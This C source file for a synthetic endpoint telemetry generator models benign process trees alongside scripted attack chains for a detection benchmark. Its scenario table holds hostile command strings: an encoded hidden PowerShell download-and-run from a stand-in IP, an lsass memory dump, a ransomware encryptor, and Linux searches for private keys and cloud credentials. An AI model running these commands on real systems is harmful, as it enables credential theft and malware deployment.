/*
 * sim.c - the telemetry generator (see sim.h).
 *
 * How a machine is modelled, small enough for a million of them:
 *  - Who it is (tenant, ids, OS version, user, IP, boot time) is a function of the seed and
 *    its number, recomputed per batch, never stored.
 *  - Its boot-time processes (System, services.exe, lsass.exe, svchost.exe, explorer.exe;
 *    systemd, sshd, cron ...) are "static": a fixed table per OS whose pids and creation
 *    times are derived from the machine hash. They live for the whole run.
 *  - Processes started during the run live in SIM_SLOTS fixed slots (pid, creation time,
 *    program, argument). Random activity keeps at most SIM_RANDOM_CAP of them alive so a
 *    scenario always finds free slots; scenario processes are pinned so random activity
 *    neither uses nor ends them.
 *  - Every random choice draws from the machine's own splitmix64 stream, so a machine's
 *    events do not depend on how batches of other machines interleave.
 * Batches are scheduled by a binary min-heap of machine numbers keyed by (next event time,
 * machine number), which makes the interleaving deterministic too.
 *
 * THREAD SAFETY: none inside; a bench_sim is used by one thread at a time.
 */
#include <math.h>
#include <stdio.h>
#include <string.h>

#include "sim.h"

/* ---- private types ---------------------------------------------------------------- */

#define SIM_SLOTS       12
#define SIM_RANDOM_CAP  9 /* leaves 3 slots for a scenario */
#define SIM_MAX_STATIC  16
#define SIM_SLOT_LIVE   1
#define SIM_SLOT_PINNED 2
#define SIM_ACT_SLOT    16 /* actor ids: 0..15 a static process, 16+i slot i */
#define SIM_RENAMES     200
#define SIM_LNX_KIDS    8
#define SIM_NO_RUN      (-1)
#define SIM_KEY_SHIFT   24 /* machines < 2^24, durations < 2^39 us (6 days) */
#define SIM_KEY_MASK    ((UINT64_C(1) << SIM_KEY_SHIFT) - 1)
#define SIM_ID_MAX      48 /* machine ids and names: "WIN-tenant-16777216-16777216" fits */
#define SIM_NDLL_W      10
#define SIM_NDLL_L      6

enum sim_os { OS_W = 1, OS_L = 2 };
enum sim_role { R_STATIC, R_DYN, R_SCEN };
/* A_STOLEN: the domain account a chain's attacker stole on the chain's first machine
 * (sim_run.origin), used on the machines it moves to. */
enum sim_acct { A_SYSTEM, A_LOCALSVC, A_NETSVC, A_USER, A_ROOT, A_WWW, A_STOLEN };
enum sim_il { IL_NONE, IL_LOW, IL_MEDIUM, IL_HIGH, IL_SYSTEM };
enum sim_run_kind { RUN_WIN_REF, RUN_LNX_REF, RUN_CHAIN_A, RUN_CHAIN_B, RUN_CHAIN_C };

/* Programs. Windows statics come first (static index = program), then Linux statics
 * (static index = program - P_L_SYSTEMD), then programs started during the run. */
enum sim_prog_id {
    P_W_SYSTEM,
    P_W_SMSS,
    P_W_CSRSS,
    P_W_WININIT,
    P_W_SERVICES,
    P_W_LSASS,
    P_W_WINLOGON,
    P_W_SVC_DCOM,
    P_W_SVC_NETSVCS,
    P_W_SVC_NETWORK,
    P_W_SVC_LOCAL,
    P_W_MSMPENG,
    P_W_MSSENSE,
    P_W_EXPLORER,
    P_W_SPOOLSV,
    P_W_SEARCHIDX,
    P_L_SYSTEMD,
    P_L_JOURNALD,
    P_L_SSHD,
    P_L_CRON,
    P_L_RSYSLOG,
    P_L_WDAV,
    P_L_RESOLVED,
    P_L_NGINX,
    P_L_SSHD_SESSION,
    P_L_BASH_LOGIN,
    P_L_DOCKERD,
    P_L_CONTAINERD,
    P_W_CHROME,
    P_W_CHROME_CHILD,
    P_W_MSEDGE,
    P_W_WINWORD,
    P_W_EXCEL,
    P_W_OUTLOOK,
    P_W_TEAMS,
    P_W_CMD,
    P_W_CONHOST,
    P_W_SVC_WUAU,
    P_W_TASKHOSTW,
    P_W_RUNTIMEBROKER,
    P_W_BGTASKHOST,
    P_W_SEARCHPROT,
    P_W_WMIPRVSE,
    P_W_NOTEPAD,
    P_W_ONEDRIVE,
    P_W_MPCMDRUN,
    P_W_GIT,
    P_W_CODE,
    P_W_PS_MGMT,
    P_L_CRON_JOB,
    P_L_PY_WORKER,
    P_L_LS,
    P_L_GREP,
    P_L_CAT,
    P_L_CURL,
    P_L_GIT,
    P_L_VIM,
    P_L_PS,
    P_L_SLEEP,
    P_L_PIP,
    P_L_NODE,
    P_L_SUDO,
    P_L_TAR,
    P_L_FIND_LOGS,
    P_L_NGINX_WORKER,
    P_L_LOGROTATE,
    P_S_CMD,
    P_S_PS_REF,
    P_S_WINWORD_DOC,
    P_S_PS_ENC,
    P_S_PROCDUMP,
    P_S_PSEXESVC,
    P_S_WHOAMI,
    P_S_LOCKER,
    P_S_LNX_SCRIPT,
    P_S_LNX_KID0,
    P_S_LNX_KID_LAST = P_S_LNX_KID0 + SIM_LNX_KIDS - 1,
    P__COUNT
};

#define N_STATIC_W (P_W_SEARCHIDX + 1)
#define N_STATIC_L (P_L_CONTAINERD - P_L_SYSTEMD + 1)

struct sim_prog {
    const char *image;
    const char *cmdline; /* '@' becomes the machine's user, '#' a number */
    const char *cwd;
    uint8_t os;
    uint8_t role;
    uint8_t acct;
    uint8_t il;
    uint8_t weight;   /* R_DYN: how often it is started */
    int16_t parent;   /* R_STATIC: parent program; R_DYN: static program that starts it */
    int16_t parent_p; /* R_DYN: a live program of this kind starts it when there is one */
    uint16_t start_s; /* R_STATIC: seconds after boot (or logon) it started */
    bool session;     /* R_STATIC: started at the user's logon, not at boot */
};

struct sim_hashes {
    char sha256[65];
    char sha1[41];
    char md5[33];
};

/* A process started during the run. 16 bytes. */
struct sim_slot {
    int64_t ctime;
    uint32_t pid;
    uint8_t prog;
    uint8_t flags;
    uint16_t arg; /* the '#' of its command line */
};

/* All per-machine state: 232 bytes. */
struct sim_machine {
    int64_t next_ts;   /* time of its next event */
    uint64_t seq;      /* sequence number of its next event */
    uint64_t rng;      /* splitmix64 state */
    uint32_t pid_next; /* Linux: the kernel's pid cursor */
    int32_t run;       /* the scenario run due or in progress, or SIM_NO_RUN */
    uint16_t run_step; /* the next step of that run */
    uint8_t os;
    uint8_t pad;
    struct sim_slot slot[SIM_SLOTS];
};

/* A scenario run on one machine. */
struct sim_run {
    int64_t at_us; /* when its next step is due */
    uint32_t machine;
    uint32_t peer;   /* chains: the machine the attacker came from or goes to */
    uint32_t origin; /* chains: the first machine, where the attacker dumped the account
                        it then uses on the others */
    int32_t next;    /* the next run on the same machine, in time order */
    uint32_t truth;  /* index of its first truth record */
    uint8_t kind;
    int8_t act[3]; /* actor ids of the processes it started */
};

struct sim_truth {
    struct bench_sim_truth pub; /* its strings point into the fields below */
    char tenant[24];
    char machine[SIM_ID_MAX];
};

struct bench_sim {
    struct bench_sim_opts o;
    int64_t end_us;
    int64_t gap_us; /* mean gap between a machine's events */
    struct sim_machine *m;
    uint64_t *heap; /* keys: time since start << 24 | machine (see sim_key) */
    struct sim_run *runs;
    size_t nruns;
    struct sim_truth *truth;
    size_t ntruth;
    struct sim_hashes ph[P__COUNT];
    uint8_t pexp[P__COUNT];     /* bits: image, command line, cwd have '@' or '#' */
    char dll_w[SIM_NDLL_W][65]; /* sha256 of each DLL */
    char dll_l[SIM_NDLL_L][65];
    struct bench_sim_stats st;
};

/* Everything one batch needs to know about its machine. */
struct sim_ctx {
    bench_sim *s;
    vg_arena *a;
    uint32_t idx;
    struct sim_machine *m;
    uint64_t h;
    uint32_t tenant; /* 1-based */
    uint32_t num;    /* machine number within its tenant */
    int64_t boot_us;
    int64_t logon_us;
    const char *user;
    size_t user_len;
    char *account_user;
    char *logon_id;
    char *local_ip;
    char *name;
    Vigil__ProcessRef *ref_static[SIM_MAX_STATIC];
    Vigil__ProcessRef *ref_slot[SIM_SLOTS];
};

struct sim_host {
    const char *name;
    const char *ip;
};

struct sim_regval {
    const char *key;
    const char *name;
    const char *type;
    const char *data;
};

struct sim_sw {
    const char *name;
    const char *version;
    const char *vendor;
};

/* ---- prototypes ------------------------------------------------------------------- */

static uint64_t sim_mix(uint64_t z);
static uint64_t sim_rand(struct sim_machine *m);
static uint32_t sim_below(struct sim_machine *m, uint32_t n);
static int sim_gen_event(struct sim_ctx *c, Vigil__Event *ev);
static int sim_run_step(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int64_t *gap);
static void sim_heap_down(bench_sim *s, size_t i);
static uint64_t sim_key(const bench_sim *s, uint32_t idx);
static int sim_static_act(const struct sim_ctx *c, int prog);

/* ---- tables ----------------------------------------------------------------------- */

#define W_SYS32 "C:\\Windows\\System32\\"
#define W_PF    "C:\\Program Files\\"
#define W_PF86  "C:\\Program Files (x86)\\"
#define W_UCWD  "C:\\Users\\@\\"
#define W_SCWD  "C:\\Windows\\system32\\"

#define STAT_W(img, cl, par, st, acct, il)                                                         \
    {                                                                                              \
        img, cl, W_SCWD, OS_W, R_STATIC, acct, il, 0, par, -1, st, false                           \
    }
#define SESS_W(img, cl, par, st)                                                                   \
    {                                                                                              \
        img, cl, W_UCWD, OS_W, R_STATIC, A_USER, IL_MEDIUM, 0, par, -1, st, true                   \
    }
#define STAT_L(img, cl, par, st, acct)                                                             \
    {                                                                                              \
        img, cl, "/", OS_L, R_STATIC, acct, IL_NONE, 0, par, -1, st, false                         \
    }
#define DYN_W(img, cl, cwd, acct, il, w, par, par_p)                                               \
    {                                                                                              \
        img, cl, cwd, OS_W, R_DYN, acct, il, w, par, par_p, 0, false                               \
    }
#define DYN_L(img, cl, cwd, acct, w, par, par_p)                                                   \
    {                                                                                              \
        img, cl, cwd, OS_L, R_DYN, acct, IL_NONE, w, par, par_p, 0, false                          \
    }
#define SCEN(os, img, cl, cwd, acct, il)                                                           \
    {                                                                                              \
        img, cl, cwd, os, R_SCEN, acct, il, 0, -1, -1, 0, false                                    \
    }

static const struct sim_prog sim_progs[P__COUNT] = {
    [P_W_SYSTEM] = STAT_W("System", "", -1, 0, A_SYSTEM, IL_SYSTEM),
    [P_W_SMSS] = STAT_W(W_SYS32 "smss.exe", "\\SystemRoot\\System32\\smss.exe", P_W_SYSTEM, 1,
                        A_SYSTEM, IL_SYSTEM),
    [P_W_CSRSS] = STAT_W(W_SYS32 "csrss.exe",
                         "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows "
                         "SharedSection=1024,20480,768 Windows=On SubSystemType=Windows",
                         P_W_SMSS, 2, A_SYSTEM, IL_SYSTEM),
    [P_W_WININIT] = STAT_W(W_SYS32 "wininit.exe", "wininit.exe", P_W_SMSS, 2, A_SYSTEM, IL_SYSTEM),
    [P_W_SERVICES] = STAT_W(W_SYS32 "services.exe", "C:\\Windows\\system32\\services.exe",
                            P_W_WININIT, 3, A_SYSTEM, IL_SYSTEM),
    [P_W_LSASS] = STAT_W(W_SYS32 "lsass.exe", "C:\\Windows\\system32\\lsass.exe", P_W_WININIT, 3,
                         A_SYSTEM, IL_SYSTEM),
    [P_W_WINLOGON] =
        STAT_W(W_SYS32 "winlogon.exe", "winlogon.exe", P_W_SMSS, 3, A_SYSTEM, IL_SYSTEM),
    [P_W_SVC_DCOM] =
        STAT_W(W_SYS32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
               P_W_SERVICES, 4, A_SYSTEM, IL_SYSTEM),
    [P_W_SVC_NETSVCS] =
        STAT_W(W_SYS32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
               P_W_SERVICES, 5, A_SYSTEM, IL_SYSTEM),
    [P_W_SVC_NETWORK] =
        STAT_W(W_SYS32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p",
               P_W_SERVICES, 5, A_NETSVC, IL_SYSTEM),
    [P_W_SVC_LOCAL] =
        STAT_W(W_SYS32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k LocalService -p",
               P_W_SERVICES, 5, A_LOCALSVC, IL_SYSTEM),
    [P_W_MSMPENG] = STAT_W("C:\\ProgramData\\Microsoft\\Windows "
                           "Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe",
                           "\"C:\\ProgramData\\Microsoft\\Windows "
                           "Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe\"",
                           P_W_SERVICES, 6, A_SYSTEM, IL_SYSTEM),
    [P_W_MSSENSE] = STAT_W(W_PF "Windows Defender Advanced Threat Protection\\MsSense.exe",
                           "\"MsSense.exe\"", P_W_SERVICES, 8, A_SYSTEM, IL_SYSTEM),
    [P_W_EXPLORER] =
        SESS_W("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", P_W_WINLOGON, 2),
    [P_W_SPOOLSV] = STAT_W(W_SYS32 "spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe",
                           P_W_SERVICES, 7, A_SYSTEM, IL_SYSTEM),
    [P_W_SEARCHIDX] =
        STAT_W(W_SYS32 "SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
               P_W_SERVICES, 30, A_SYSTEM, IL_SYSTEM),

    [P_L_SYSTEMD] = STAT_L("/usr/lib/systemd/systemd", "/sbin/init", -1, 0, A_ROOT),
    [P_L_JOURNALD] = STAT_L("/usr/lib/systemd/systemd-journald", "/lib/systemd/systemd-journald",
                            P_L_SYSTEMD, 1, A_ROOT),
    [P_L_SSHD] = STAT_L("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
                        P_L_SYSTEMD, 3, A_ROOT),
    [P_L_CRON] = STAT_L("/usr/sbin/cron", "/usr/sbin/cron -f", P_L_SYSTEMD, 3, A_ROOT),
    [P_L_RSYSLOG] =
        STAT_L("/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n -iNONE", P_L_SYSTEMD, 3, A_ROOT),
    [P_L_WDAV] = STAT_L("/opt/microsoft/mdatp/sbin/wdavdaemon",
                        "/opt/microsoft/mdatp/sbin/wdavdaemon", P_L_SYSTEMD, 5, A_ROOT),
    [P_L_RESOLVED] = STAT_L("/usr/lib/systemd/systemd-resolved", "/lib/systemd/systemd-resolved",
                            P_L_SYSTEMD, 2, A_ROOT),
    [P_L_NGINX] = STAT_L("/usr/sbin/nginx",
                         "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
                         P_L_SYSTEMD, 6, A_ROOT),
    [P_L_SSHD_SESSION] = {"/usr/sbin/sshd", "sshd: @ [priv]", "/", OS_L, R_STATIC, A_ROOT, IL_NONE,
                          0, P_L_SSHD, -1, 0, true},
    [P_L_BASH_LOGIN] = {"/usr/bin/bash", "-bash", "/home/@", OS_L, R_STATIC, A_USER, IL_NONE, 0,
                        P_L_SSHD_SESSION, -1, 1, true},
    [P_L_DOCKERD] = STAT_L("/usr/bin/dockerd",
                           "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
                           P_L_SYSTEMD, 8, A_ROOT),
    [P_L_CONTAINERD] = STAT_L("/usr/bin/containerd", "/usr/bin/containerd", P_L_SYSTEMD, 7, A_ROOT),

    [P_W_CHROME] = DYN_W(W_PF "Google\\Chrome\\Application\\chrome.exe",
                         "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", W_UCWD,
                         A_USER, IL_MEDIUM, 10, P_W_EXPLORER, -1),
    [P_W_CHROME_CHILD] = DYN_W(W_PF "Google\\Chrome\\Application\\chrome.exe",
                               "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "
                               "--type=renderer --lang=en-US --renderer-client-id=# "
                               "--mojo-platform-channel-handle=4212 /prefetch:1",
                               W_UCWD, A_USER, IL_LOW, 14, P_W_EXPLORER, P_W_CHROME),
    [P_W_MSEDGE] = DYN_W(W_PF86 "Microsoft\\Edge\\Application\\msedge.exe",
                         "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" "
                         "--profile-directory=Default",
                         W_UCWD, A_USER, IL_MEDIUM, 4, P_W_EXPLORER, -1),
    [P_W_WINWORD] = DYN_W(W_PF "Microsoft Office\\root\\Office16\\WINWORD.EXE",
                          "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" "
                          "/n \"C:\\Users\\@\\Documents\\Report-#.docx\"",
                          W_UCWD, A_USER, IL_MEDIUM, 4, P_W_EXPLORER, -1),
    [P_W_EXCEL] = DYN_W(W_PF "Microsoft Office\\root\\Office16\\EXCEL.EXE",
                        "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\"",
                        W_UCWD, A_USER, IL_MEDIUM, 3, P_W_EXPLORER, -1),
    [P_W_OUTLOOK] = DYN_W(W_PF "Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                          "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\"",
                          W_UCWD, A_USER, IL_MEDIUM, 2, P_W_EXPLORER, -1),
    [P_W_TEAMS] = DYN_W("C:\\Users\\@\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
                        "\"C:\\Users\\@\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" "
                        "--type=renderer --field-trial-handle=#",
                        W_UCWD, A_USER, IL_MEDIUM, 3, P_W_EXPLORER, -1),
    [P_W_CMD] = DYN_W(W_SYS32 "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /c ver", W_UCWD,
                      A_USER, IL_MEDIUM, 2, P_W_EXPLORER, -1),
    [P_W_CONHOST] =
        DYN_W(W_SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
              W_SCWD, A_USER, IL_MEDIUM, 3, P_W_CSRSS, P_W_CMD),
    [P_W_SVC_WUAU] =
        DYN_W(W_SYS32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
              W_SCWD, A_SYSTEM, IL_SYSTEM, 2, P_W_SERVICES, -1),
    [P_W_TASKHOSTW] = DYN_W(W_SYS32 "taskhostw.exe", "taskhostw.exe KEYROAMING", W_SCWD, A_USER,
                            IL_MEDIUM, 4, P_W_SVC_NETSVCS, -1),
    [P_W_RUNTIMEBROKER] =
        DYN_W(W_SYS32 "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
              W_SCWD, A_USER, IL_MEDIUM, 5, P_W_SVC_DCOM, -1),
    [P_W_BGTASKHOST] = DYN_W(W_SYS32 "backgroundTaskHost.exe",
                             "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" "
                             "-ServerName:BackgroundTaskHost.WebAccountProvider",
                             W_SCWD, A_USER, IL_LOW, 4, P_W_SVC_DCOM, -1),
    [P_W_SEARCHPROT] =
        DYN_W(W_SYS32 "SearchProtocolHost.exe",
              "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" "
              "Global\\UsGthrFltPipeMssGthrPipe# Global\\UsGthrCtrlFltPipeMssGthrPipe# 1 "
              "-2147483646 \"Software\\Microsoft\\Windows Search\"",
              W_SCWD, A_SYSTEM, IL_SYSTEM, 5, P_W_SEARCHIDX, -1),
    [P_W_WMIPRVSE] = DYN_W(W_SYS32 "wbem\\WmiPrvSE.exe",
                           "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", W_SCWD,
                           A_NETSVC, IL_SYSTEM, 3, P_W_SVC_DCOM, -1),
    [P_W_NOTEPAD] =
        DYN_W(W_SYS32 "notepad.exe",
              "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\@\\Desktop\\notes-#.txt", W_UCWD,
              A_USER, IL_MEDIUM, 2, P_W_EXPLORER, -1),
    [P_W_ONEDRIVE] = DYN_W("C:\\Users\\@\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                           "\"C:\\Users\\@\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" "
                           "/background",
                           W_UCWD, A_USER, IL_MEDIUM, 2, P_W_EXPLORER, -1),
    [P_W_MPCMDRUN] = DYN_W("C:\\ProgramData\\Microsoft\\Windows "
                           "Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe",
                           "\"C:\\ProgramData\\Microsoft\\Windows "
                           "Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe\" SignatureUpdate "
                           "-ScheduleJob -RestrictPrivileges",
                           W_SCWD, A_SYSTEM, IL_SYSTEM, 1, P_W_MSMPENG, -1),
    [P_W_GIT] = DYN_W(W_PF "Git\\cmd\\git.exe", "git.exe fetch --all", W_UCWD, A_USER, IL_MEDIUM, 2,
                      P_W_EXPLORER, P_W_CODE),
    [P_W_CODE] = DYN_W("C:\\Users\\@\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
                       "\"C:\\Users\\@\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"",
                       W_UCWD, A_USER, IL_MEDIUM, 2, P_W_EXPLORER, -1),

    /* A management agent's scheduled inventory script: PowerShell runs on every Windows
     * machine of a real fleet, so its hash is common and must not link incidents. */
    [P_W_PS_MGMT] = DYN_W(BENCH_SIM_WIN_REF_IMAGE,
                          "powershell.exe -NoProfile -NonInteractive -File "
                          "\"C:\\ProgramData\\Contoso\\Inventory\\collect.ps1\"",
                          W_SCWD, A_SYSTEM, IL_SYSTEM, 3, P_W_SVC_NETSVCS, -1),
    [P_L_CRON_JOB] = DYN_L("/usr/bin/sh", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly",
                           "/", A_ROOT, 4, P_L_CRON, -1),
    [P_L_PY_WORKER] = DYN_L("/usr/bin/python3.11", "/usr/bin/python3 /opt/app/worker.py --queue #",
                            "/opt/app", A_WWW, 4, P_L_SYSTEMD, -1),
    [P_L_LS] = DYN_L("/usr/bin/ls", "ls --color=auto -l", "/home/@", A_USER, 4, P_L_BASH_LOGIN, -1),
    [P_L_GREP] = DYN_L("/usr/bin/grep", "grep -i error /var/log/syslog", "/home/@", A_USER, 3,
                       P_L_BASH_LOGIN, -1),
    [P_L_CAT] =
        DYN_L("/usr/bin/cat", "cat /etc/os-release", "/home/@", A_USER, 3, P_L_BASH_LOGIN, -1),
    [P_L_CURL] = DYN_L("/usr/bin/curl", "curl -s https://api.github.com/repos/org/app/releases",
                       "/home/@", A_USER, 2, P_L_BASH_LOGIN, -1),
    [P_L_GIT] = DYN_L("/usr/bin/git", "git pull --rebase", "/home/@/project", A_USER, 2,
                      P_L_BASH_LOGIN, -1),
    [P_L_VIM] = DYN_L("/usr/bin/vim.basic", "vim src/main-#.py", "/home/@/project", A_USER, 2,
                      P_L_BASH_LOGIN, -1),
    [P_L_PS] = DYN_L("/usr/bin/ps", "ps aux", "/home/@", A_USER, 2, P_L_BASH_LOGIN, -1),
    [P_L_SLEEP] = DYN_L("/usr/bin/sleep", "sleep 60", "/", A_ROOT, 3, P_L_CRON, P_L_CRON_JOB),
    [P_L_PIP] = DYN_L("/usr/bin/python3.11", "/usr/bin/python3 -m pip list --outdated",
                      "/home/@/project", A_USER, 1, P_L_BASH_LOGIN, -1),
    [P_L_NODE] = DYN_L("/usr/bin/node", "node /srv/app/server.js --port #", "/srv/app", A_WWW, 2,
                       P_L_SYSTEMD, -1),
    [P_L_SUDO] = DYN_L("/usr/bin/sudo", "sudo systemctl status nginx", "/home/@", A_ROOT, 1,
                       P_L_BASH_LOGIN, -1),
    [P_L_TAR] = DYN_L("/usr/bin/tar", "tar czf /var/backups/app-#.tar.gz /srv/app/data", "/",
                      A_ROOT, 1, P_L_CRON, P_L_CRON_JOB),
    [P_L_FIND_LOGS] = DYN_L("/usr/bin/find", "find /var/log -name *.gz -mtime +7 -delete", "/",
                            A_ROOT, 1, P_L_CRON, P_L_CRON_JOB),
    [P_L_NGINX_WORKER] =
        DYN_L("/usr/sbin/nginx", "nginx: worker process", "/", A_WWW, 3, P_L_NGINX, -1),
    [P_L_LOGROTATE] = DYN_L("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/",
                            A_ROOT, 1, P_L_CRON, P_L_CRON_JOB),

    [P_S_CMD] = SCEN(OS_W, W_SYS32 "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", W_UCWD, A_USER,
                     IL_HIGH),
    [P_S_PS_REF] =
        SCEN(OS_W, BENCH_SIM_WIN_REF_IMAGE, BENCH_SIM_WIN_REF_CMDLINE, W_UCWD, A_USER, IL_HIGH),
    [P_S_WINWORD_DOC] = SCEN(OS_W, W_PF "Microsoft Office\\root\\Office16\\WINWORD.EXE",
                             "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" "
                             "/n \"C:\\Users\\@\\Downloads\\Invoice_#.docm\" /o \"\"",
                             W_UCWD, A_USER, IL_MEDIUM),
    [P_S_PS_ENC] = SCEN(
        OS_W, BENCH_SIM_WIN_REF_IMAGE,
        "powershell.exe -nop -w hidden -enc "
        "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQ"
        "BkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADUALwBwAC4AZQB4AGUAJwAs"
        "ACcAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABwAC4AZQB4AGUAJwApADsAUwB0AGEAcgB0AC0AUAByAG"
        "8AYwBlAHMAcwAgACcAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABwAC4AZQB4AGUAJwA=",
        W_UCWD, A_USER, IL_MEDIUM),
    [P_S_PROCDUMP] = SCEN(OS_W, "C:\\Users\\Public\\p.exe",
                          "C:\\Users\\Public\\p.exe -accepteula -ma lsass.exe "
                          "C:\\Windows\\Temp\\lsass.dmp",
                          "C:\\Users\\Public\\", A_USER, IL_HIGH),
    [P_S_PSEXESVC] = SCEN(OS_W, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", W_SCWD,
                          A_SYSTEM, IL_SYSTEM),
    /* PsExec without -s runs the command under the account that logged on over the
     * network, not as SYSTEM (only PSEXESVC itself does); the locker is a service the
     * attacker created with the stolen credentials (sc create ... obj= DOMAIN\\user). */
    [P_S_WHOAMI] = SCEN(OS_W, W_SYS32 "whoami.exe", "whoami.exe /all", W_SCWD, A_STOLEN, IL_HIGH),
    [P_S_LOCKER] = SCEN(OS_W, "C:\\Windows\\Temp\\locker.exe",
                        "C:\\Windows\\Temp\\locker.exe --encrypt C:\\Users --ext .locked", W_SCWD,
                        A_STOLEN, IL_HIGH),
    [P_S_LNX_SCRIPT] =
        SCEN(OS_L, BENCH_SIM_LNX_REF_IMAGE, BENCH_SIM_LNX_REF_CMDLINE, "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 0] =
        SCEN(OS_L, "/usr/bin/find", "find / -name \"*.pem\"", "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 1] =
        SCEN(OS_L, "/usr/bin/find", "find / -name id_rsa", "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 2] =
        SCEN(OS_L, "/usr/bin/grep", "grep -r \"PRIVATE KEY\" /home", "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 3] = SCEN(OS_L, "/usr/bin/ls", "ls -la /etc/shadow", "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 4] =
        SCEN(OS_L, "/usr/bin/find", "find / -name \"*.kdbx\"", "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 5] =
        SCEN(OS_L, "/usr/bin/cat", "cat /root/.aws/credentials", "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 6] = SCEN(OS_L, "/usr/bin/find", "find / -name \"*.key\" -path \"*ssl*\"",
                              "/tmp", A_ROOT, IL_NONE),
    [P_S_LNX_KID0 + 7] =
        SCEN(OS_L, "/usr/bin/grep", "grep -rl \"password\" /etc /home", "/tmp", A_ROOT, IL_NONE),
};

static const char *const sim_users[] = {
    "anna.kowalski", "ben.okafor",     "carla.mendes", "dmitri.ivanov", "emma.larsen",
    "farid.haddad",  "grace.chen",     "hugo.martin",  "ines.garcia",   "jonas.weber",
    "kim.park",      "lena.schmidt",   "marco.rossi",  "nina.patel",    "oscar.nilsson",
    "priya.shah",    "quentin.dubois", "rosa.lopez",   "sam.taylor",    "tariq.aziz",
    "uma.reddy",     "victor.hugo",    "wen.li",       "yara.haddad",
};

/* Files by who touches them: a user's processes work in the profile, services elsewhere. */
static const char *const sim_files_w_user[] = {
    "C:\\Users\\@\\AppData\\Local\\Temp\\~DF#.tmp",
    "C:\\Users\\@\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_00#",
    "C:\\Users\\@\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\History-journal",
    "C:\\Users\\@\\Documents\\Report-#.docx",
    "C:\\Users\\@\\Documents\\Budget-#.xlsx",
    "C:\\Users\\@\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\Report-#.lnk",
    "C:\\Users\\@\\AppData\\Local\\Microsoft\\Outlook\\@.ost",
    "C:\\Users\\@\\AppData\\Local\\Microsoft\\OneDrive\\logs\\Personal\\SyncEngine-#.odl",
};

static const char *const sim_files_w_sys[] = {
    "C:\\Windows\\Prefetch\\CHROME.EXE-#.pf",
    "C:\\Windows\\Temp\\MpCmdRun-#.log",
    "C:\\Windows\\SoftwareDistribution\\DataStore\\Logs\\edb#.log",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\#",
    "C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-PowerShell%4Operational.evtx",
    "C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Microsoft\\Windows\\"
    "DeliveryOptimization\\Cache\\#",
    "C:\\Windows\\System32\\LogFiles\\WMI\\RtBackup\\EtwRTDiagLog#.etl",
};

static const char *const sim_files_l_user[] = {
    "/home/@/.bash_history",
    "/home/@/project/src/main-#.py",
    "/home/@/.cache/pip/http/#",
    "/tmp/tmp#.json",
